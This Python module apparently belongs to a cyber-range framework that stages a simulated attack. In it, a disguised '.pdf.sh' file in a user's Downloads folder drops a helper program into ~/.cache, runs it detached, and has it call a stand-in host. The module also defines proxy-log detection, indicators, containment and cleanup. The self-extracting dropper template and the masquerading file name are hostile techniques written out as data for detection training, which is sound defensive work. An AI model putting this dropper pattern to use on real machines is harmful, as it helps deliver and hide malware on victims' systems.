"""A member of staff opens a file that is none: a program is left in the home directory, runs, and calls somebody."""

from __future__ import annotations

import re
from collections.abc import Sequence
from typing import Annotated, ClassVar

from pydantic import Field

from cyder.contracts.acting import entity, first, traced, typed
from cyder.contracts.action import Action, Caps, Cleanup, Expected, Scene, Sighting, Trial
from cyder.contracts.probe import Check, Containment
from cyder.contracts.whereabouts import the
from cyder.model.base import LocalText, Slug
from cyder.model.evidence import Receipt, Remedy, Trace, Truth
from cyder.roles.client.seats import Seat, program, seat, works

_DOCUMENT = """\
#!/bin/sh
# {marker}
mkdir -p "$HOME/.cache"
sed '1,/^exit$/d' "$0" >"$HOME/.cache/{helper}"
chmod 700 "$HOME/.cache/{helper}"
setsid -f "$HOME/.cache/{helper}" {marker}
exit
"""


class OpenFile(Action):
    """A file in the download folder is opened: it writes a program to `~/.cache` and starts it.

    The program fetches one page of `url` through the office's proxy, throws it away, and then sleeps for `minutes`.
    It reads nothing, changes nothing, and ends by itself.
    """

    id: ClassVar[str] = "exec.open-file"
    title: ClassVar[LocalText] = LocalText(en="A member of staff opens a file", ja="不審ファイルの開封")
    techniques: ClassVar[tuple[str, ...]] = ("T1204.002", "T1059.004")
    sources: ClassVar[frozenset[str]] = frozenset({"client"})
    targets: ClassVar[frozenset[str]] = frozenset({"client"})
    caps: ClassVar[Caps] = Caps(commands=6)
    touches: ClassVar[str] = (
        "the user's home on the target: one file in ダウンロード, one in .cache, one process of that user"
    )
    ways: ClassVar[tuple[str, ...]] = ("remove-program",)
    trials: ClassVar[tuple[Trial, ...]] = (Trial("pc1", "pc1", {"url": "http://cdn-stat.example/update.bin"}),)

    url: Annotated[
        str, Field(pattern=r"^http://[a-z0-9-]+(\.[a-z0-9-]+)*\.(example|test)(/[\w./-]*)?$", max_length=120)
    ]
    account: Slug | None = None
    document: Annotated[str, Field(pattern=r"^\w[\w.-]*$", max_length=40)] = "見積書.pdf.sh"
    helper: Annotated[str, Field(pattern=r"^[a-z][a-z0-9-]*$", max_length=40)] = "update-helper"
    minutes: Annotated[int, Field(ge=1, le=240)] = 120

    def run(self, scene: Scene) -> Trace:
        """Lay the file, open it as whoever sits there, and look whether the program runs."""
        started, place = scene.clock.now(), seat(scene, self.account)
        the(scene, "proxy")
        document = self._document(place)
        laid = place.lay(document, self._text(scene))
        opened = place.run("sh", document) if laid.ok else laid
        runs = opened.ok and place.has_running(self._helper(place))
        said = "the program runs" if runs else f"the program does not run: {opened.out.strip()}"
        return traced(scene, started, reached=runs, said=f"{place.account} opens {document}: {said}")

    def emits(self, scene: Scene) -> tuple[Expected, ...]:
        """Expect the page in the proxy's log, asked for by that PC, whether or not the proxy gave it."""
        address = re.escape(_address(scene))
        pattern = rf" {address} \w+/\d+ \d+ GET {re.escape(self._page())} "
        return (Expected(node=the(scene, "proxy").name, log="access", pattern=pattern),)

    def sightings(self, scene: Scene) -> tuple[Sighting, ...]:
        """Look for what the PC fetched, what runs in the person's name, and which files are new."""
        place, (line,) = seat(scene, self.account), self.emits(scene)
        helper, document = self._helper(place), self._document(place)
        return (
            Sighting(line.node, ("grep", _address(scene), "/var/log/squid/access.log"), line.pattern),
            Sighting(scene.target, ("ps", "-u", place.account, "-o", "pid,lstart,args"), re.escape(helper)),
            Sighting(scene.target, ("find", place.home, "-type", "f", "-mmin", "-240"), re.escape(document)),
        )

    def truth(self, scene: Scene, receipts: Sequence[Receipt]) -> Truth:
        """Return both files, where the program called, whose account it was, and when it first called."""
        place, host = seat(scene, self.account), self._host()
        addresses = tuple(at for node in scene.lan.topology.nodes for name, at in node.names if name == host)
        return Truth(
            indicators=(
                entity("document", file=(self._document(place), self.document)),
                entity("program", file=(self._helper(place), self.helper)),
                entity("called", domain=host, url=self.url, **({"ip": addresses} if addresses else {})),
            ),
            accounts=(entity(place.account, account=place.account),),
            timeline=first("execution", scene.target, self.emits(scene)[0].pattern, receipts),
            remedies=(
                Remedy(kind="remove-persistence", target=scene.target),
                Remedy(kind="isolate-host", target=scene.target),
                Remedy(kind="block-network", target=host),
            ),
        )

    def control(self, scene: Scene) -> Check:
        """Ask the PC for a page of the office's own."""
        return works(scene)

    def containment(self, scene: Scene) -> tuple[Containment, ...]:
        """Ended once the program neither runs nor can be started again, by itself or from the file that brought it."""
        place = seat(scene, self.account)
        helper, document = self._helper(place), self._document(place)
        return (
            Containment(
                id="remove-program",
                deny=(place.runs(helper), place.keeps(helper), place.keeps(document)),
                allow=(works(scene),),
                typed=(
                    *typed(scene.target, "pkill", "-u", place.account, "-f", helper),
                    *typed(scene.target, "rm", helper, document),
                ),
            ),
        )

    def cleanup(self, scene: Scene) -> Cleanup:
        """End the program and remove both files."""
        place = seat(scene, self.account)
        return place.clear(self._helper(place), self._document(place))

    def _document(self, place: Seat) -> str:
        return f"{place.home}/ダウンロード/{self.document}"

    def _helper(self, place: Seat) -> str:
        return f"{place.home}/.cache/{self.helper}"

    def _text(self, scene: Scene) -> str:
        opener = _DOCUMENT.format(marker=scene.marker, helper=self.helper)
        return opener + program(scene.marker, minutes=self.minutes, url=self.url)

    def _host(self) -> str:
        return self.url.removeprefix("http://").partition("/")[0]

    def _page(self) -> str:
        """Return the address as the proxy writes it: with a path."""
        return self.url if "/" in self.url.removeprefix("http://") else f"{self.url}/"


def _address(scene: Scene) -> str:
    return scene.lan.topology.node(scene.target).interfaces[0].address
